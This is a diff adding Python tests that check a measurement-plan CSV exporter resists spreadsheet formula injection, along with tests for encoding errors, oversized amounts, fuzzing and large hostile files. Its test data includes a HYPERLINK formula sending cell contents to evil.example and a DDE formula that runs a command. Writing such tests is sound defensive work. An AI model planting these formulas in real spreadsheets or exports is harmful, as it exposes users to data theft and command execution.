@@ -179,3 +179,124 @@ def test_a_long_list_of_problems_is_shortened(plan, english):
 
 def test_column_letters():
     assert [mc.column_letter(n) for n in (1, 3, 26, 27, 52, 53)] == ["A", "C", "Z", "AA", "AZ", "BA"]
+
+
+# ---------------------------------------------------------------- hostile files (issue 14)
+
+
+def _renamed(plan, metric_names: dict, period_names: dict):
+    import dataclasses
+
+    metrics = tuple(dataclasses.replace(x, name=metric_names.get(x.key, x.name)) for x in plan.metrics)
+    periods = tuple(dataclasses.replace(p, name=period_names.get(p.key, p.name)) for p in plan.commercial.periods)
+    return dataclasses.replace(plan, metrics=metrics,
+                               commercial=dataclasses.replace(plan.commercial, periods=periods))
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1;"Klikkaa")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
+            "\tsarkain", "'=jo lainattu", "''+kaksi"]
+
+
+def test_exported_names_cannot_run_as_spreadsheet_formulas_and_import_back(plan):
+    import csv
+    import io
+
+    metric_keys = [x.key for x in plan.metrics][:len(FORMULAS)]
+    period_keys = [p.key for p in plan.commercial.periods]
+    hostile = _renamed(plan, dict(zip(metric_keys, FORMULAS)), dict(zip(period_keys, reversed(FORMULAS))))
+    for lang in ("fi", "en"):
+        data = mc.export_measurements(hostile, lang)
+        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
+        for row in rows[1:]:
+            for i, cell in enumerate(row):
+                if i != 2:  # the value column holds numbers (a minus sign is a number there)
+                    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), row
+        names = {row[3] for row in rows[1:]} | {row[4] for row in rows[1:]}
+        assert "'" + FORMULAS[1] in names and "''=jo lainattu" in names and "'''+kaksi" in names
+        assert mc.import_measurements(hostile, data).plan == hostile  # read back by name too:
+        out = io.StringIO(newline="")
+        csv.writer(out, delimiter=";").writerows([rows[0][:3], *([r[3], r[4] or r[1], r[2]] for r in rows[1:])])
+        by_name = out.getvalue()
+        assert mc.import_measurements(hostile, by_name).plan == hostile
+
+
+def test_safe_cell_and_read_cell_are_inverse():
+    for text in ["", "'", "''", "a", "'a", "=", "'=", "''=", "-5", "'-5", "@", "x=y", "\r", "'\t"]:
+        assert mc.read_cell(mc.safe_cell(text)) == text
+        assert mc.safe_cell(text)[:1] not in ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_a_hand_written_name_starting_with_a_quote_is_found_as_written(plan):
+    key = plan.metrics[0].key
+    quoted = _renamed(plan, {key: "'=lainausmerkki"}, {})
+    new = mc.import_measurements(quoted, "mittari;jakso;arvo\n'=lainausmerkki;p1;5\n".encode()).plan
+    assert value(new, key, "p1") == D(5)
+
+
+@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le"])
+def test_a_utf16_or_utf32_file_gets_one_message_about_the_encoding(plan, english, encoding):
+    error = problems_of(plan, GOOD.encode(encoding))
+    assert len(error.problems) == 1
+    assert "UTF-16" in error.problems[0].message and "CSV UTF-8" in error.problems[0].message
+    assert "no column" not in str(error)
+
+
+@pytest.mark.parametrize("amount", ["123456789012345678901234567890,123", "1 000 000 000 001", "-1e3",
+                                    "0,0000001", "1," + "0" * 40 + "1", "9" * 5000], ids=range(6))
+def test_amounts_beyond_the_sane_range_name_the_metric_and_period(plan, english, amount):
+    error = problems_of(plan, f"mittari;jakso;arvo\njonotusajat;p1;{amount}\n".encode())
+    assert len(error.problems) == 1
+    message = error.problems[0].message
+    if "e" in amount:  # not a number at all
+        assert "is not a number" in message
+        return
+    assert "“Jonotusajat”" in message and "“Palvelujakso 1 (2 v, havainnollistava)”" in message, message
+    assert len(str(error)) < 400
+
+
+def test_amounts_at_the_limits_are_taken(plan):
+    data = "mittari;jakso;arvo\njonotusajat;p1;1 000 000 000 000\njonotusajat;p2;-1000000000000\nhoitojakso;p1;0,000001\n"
+    new = mc.import_measurements(plan, data.encode()).plan
+    assert value(new, "jonotusajat", "p1") == D(10) ** 12 and value(new, "jonotusajat", "p2") == -D(10) ** 12
+    assert value(new, "hoitojakso", "p1") == D("0.000001")
+
+
+def test_fuzz_any_bytes_end_in_a_result_or_one_refusal_quickly(plan):
+    import time
+
+    from hypothesis import HealthCheck, given, settings
+    from hypothesis import strategies as st
+
+    header = st.sampled_from([b"", b"mittari;jakso;arvo\n", b"\xef\xbb\xbfmetric;period;value\r\n", b"\xff\xfe"])
+    cells = st.sampled_from([b"jonotusajat", b"p1", b"p3", b"l\xc3\xa4ht\xc3\xb6taso", b"1,5", b"-2", b"'=x", b'"',
+                             b";", b"\n", b"\r", b"\x00", b"9" * 40, b"1 234,5", b"\xe4", b"\xff", b"=1+1", b""])
+    body = st.lists(st.one_of(cells, st.binary(max_size=40)), max_size=60).map(b"".join)
+
+    @settings(max_examples=300, deadline=None, suppress_health_check=list(HealthCheck))
+    @given(header, body)
+    def check(head, rest):
+        data = head + rest
+        start = time.perf_counter()
+        try:
+            result = mc.import_measurements(plan, data)
+        except mc.CsvImportError as exc:
+            assert exc.message and exc.problems
+        else:
+            assert isinstance(result, mc.ImportResult)
+            validate_plan(result.plan)
+        assert time.perf_counter() - start < 2.0
+
+    check()
+
+
+def test_a_large_hostile_file_is_refused_in_linear_time(plan):
+    import time
+
+    for data in (b"mittari;jakso;arvo\n" + b"jonotusajat;p1;" + b"9" * 5_000_000 + b"\n",
+                 b"mittari;jakso;arvo\n" + b"x;y;1\n" * 200_000,
+                 b"mittari;jakso;arvo\n" + b'"' + b"a" * 3_000_000 + b"\n",
+                 b"a" * 5_000_000):
+        start = time.perf_counter()
+        with pytest.raises(mc.CsvImportError):
+            mc.import_measurements(plan, data)
+        assert time.perf_counter() - start < 5.0
